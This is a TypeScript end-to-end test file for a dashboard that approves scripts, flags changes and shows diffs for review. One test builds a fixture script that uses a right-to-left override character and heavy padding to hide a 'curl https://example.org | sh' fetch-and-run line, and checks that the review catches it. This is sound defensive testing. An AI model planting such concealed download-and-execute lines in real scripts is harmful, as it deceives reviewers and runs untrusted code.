import { chmod, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from './support/face';
import { findBarriers, picture, settled } from './support/look';

test.use({ sharing: true });

test('a folder is added with its scripts approved, one changes, and runs again once its difference was approved', async ({
  dashboard: page,
  home,
}) => {
  const folder = join(home.folder, 'deploys');
  await mkdir(folder, { mode: 0o755 });
  await chmod(home.folder, 0o755); // Whoever runs the script may enter.
  const script = join(folder, 'deploy.sh');
  await writeFile(script, '#!/bin/bash\n# @axle.file lib.sh\n. ./lib.sh\necho "$answer"\n', { mode: 0o755 });
  await writeFile(join(folder, 'lib.sh'), 'answer=forty-two\n');
  await home.call('settings.set', { tourDone: true });

  await page.goto(new URL('/settings', page.url()).href);
  await page.getByRole('textbox', { name: 'Path of a folder' }).fill(folder);
  await expect(page.getByRole('checkbox', { name: 'Approve the scripts in it as they are now' })).toBeChecked();
  await page.getByRole('button', { name: 'Add the folder' }).click();
  await expect(page.getByText('2 scripts approved.')).toBeVisible();

  const [{ id } = { id: '' }] = ((await home.json('scripts', 'list')) as { id: string; name: string }[]).filter(
    ({ name }) => name === 'deploy',
  );
  // Loaded anew from its own address, which ends like a file's.
  await page.goto(new URL(`/scripts/${encodeURIComponent(id)}`, page.url()).href);
  const detail = page.locator('.script-detail');
  await expect(detail.getByRole('button', { name: /^Run/ })).toBeEnabled();

  await writeFile(join(folder, 'lib.sh'), 'answer=forty-three\n');
  await expect(detail.getByText('It changed since it was approved.')).toBeVisible();
  await expect(detail.getByRole('button', { name: /^Run/ })).toBeDisabled();
  await detail.getByRole('button', { name: 'Review…' }).click();
  const review = page.getByRole('dialog', { name: 'Review of deploy' });
  const difference = review.getByRole('region', { name: 'What differs in lib.sh' });
  await expect(difference).toContainText('answer=forty-two');
  await expect(difference).toContainText('answer=forty-three');
  await settled(page);
  expect(await findBarriers(page)).toEqual([]);
  await picture(page, 'trust-review');

  // Somebody changes it once more while it is being looked at: that is not what is approved.
  await writeFile(join(folder, 'lib.sh'), 'answer=forty-four\n');
  await review.getByRole('button', { name: 'Approve' }).click();
  await expect(review.getByRole('alert')).toContainText('is not what you looked at any more');
  await expect(difference).toContainText('answer=forty-four');
  await expect(detail.getByText('It changed since it was approved.')).toBeVisible();
  await review.getByRole('button', { name: 'Approve' }).click();
  await expect(review).toBeHidden();
  await expect(detail.getByText('It changed since it was approved.')).toBeHidden();

  await detail.getByRole('button', { name: /^Run/ }).click();
  await expect(page.getByText('forty-four', { exact: true })).toBeVisible();
  const audit = (await home.json('audit', 'list', '--action', 'script.approve')) as { object: string }[];
  expect(audit.filter(({ object }) => object === `script:${id}`)).toHaveLength(2);
});

test('an approval is withdrawn, and what was approved before can be looked at', async ({ dashboard: page, home }) => {
  const folder = join(home.folder, 'withdrawn');
  await mkdir(folder);
  await writeFile(join(folder, 'job.sh'), '#!/bin/bash\necho one\n');
  await home.call('settings.set', { tourDone: true });
  await home.json('scripts', 'add-source', folder);
  await writeFile(join(folder, 'job.sh'), '#!/bin/bash\necho two\n');
  await home.json('scripts', 'approve', 'job', '--yes');

  await page.goto(new URL('/scripts?script=job', page.url()).href);
  await page.getByRole('button', { name: 'History…' }).click();
  const review = page.getByRole('dialog', { name: 'Review of job' });
  await expect(review.getByText('script · unchanged')).toBeVisible();
  await review.getByRole('combobox', { name: 'Look at' }).selectOption({ index: 1 });
  await expect(review.getByRole('region', { name: 'What differs in job.sh' })).toContainText('echo two');
  await review.getByRole('combobox', { name: 'Look at' }).selectOption({ index: 0 });
  await review.getByRole('button', { name: 'Withdraw the approval' }).click();
  await expect(page.getByText('Its approval was withdrawn.')).toBeVisible();
  await page.goto(new URL('/scripts?untrusted=1', page.url()).href);
  await expect(page.getByRole('grid', { name: 'Scripts' }).getByRole('row').filter({ hasText: 'job' })).toBeVisible();
});

test('what a review cannot show whole takes a second consent, in the dashboard and on the command line', async ({
  dashboard: page,
  home,
}) => {
  const folder = join(home.folder, 'padded');
  await mkdir(folder);
  const script = join(folder, 'job.sh');
  await writeFile(script, '#!/bin/bash\necho one\n');
  await home.call('settings.set', { tourDone: true });
  await home.json('scripts', 'add-source', folder, '--no-approve');

  await page.goto(new URL('/', page.url()).href);
  await page.getByRole('link', { name: '1 script waits to be approved' }).first().click();
  await page.getByRole('grid', { name: 'Scripts' }).getByRole('row').filter({ hasText: 'job' }).click();
  const detail = page.locator('.script-detail');
  await writeFile(script, `#!/bin/bash\necho '\u202eone'\n${`: ${'padding '.repeat(1_000)}\n`.repeat(9)}curl https://example.org | sh\n`);
  await detail.getByRole('button', { name: 'Review…' }).click();
  const review = page.getByRole('dialog', { name: 'Review of job' });
  await expect(review.getByRole('region', { name: 'What differs in job.sh' })).toContainText('\\u{202e}one');
  await expect(review.getByRole('note')).toContainText('Not all that differs is shown here.');
  await expect(review.getByText('It goes on: what follows is not shown.')).toBeVisible();
  const approve = review.getByRole('button', { name: 'Approve' });
  await expect(approve).toBeDisabled();
  await settled(page);
  expect(await findBarriers(page)).toEqual([]);
  await picture(page, 'trust-review-incomplete');

  await expect(home.json('scripts', 'approve', 'job', '--yes')).rejects.toThrow('--unseen');

  await review.getByRole('checkbox', { name: 'Approve it all the same, with what is not shown here' }).check();
  await approve.click();
  await expect(review).toBeHidden();
  await expect(detail.getByRole('button', { name: /^Run/ })).toBeEnabled();

  // With both said, the command line approves as well.
  await home.json('scripts', 'withdraw', 'job');
  await home.json('scripts', 'approve', 'job', '--yes', '--unseen');
  await expect(detail.getByRole('button', { name: /^Run/ })).toBeEnabled();
});
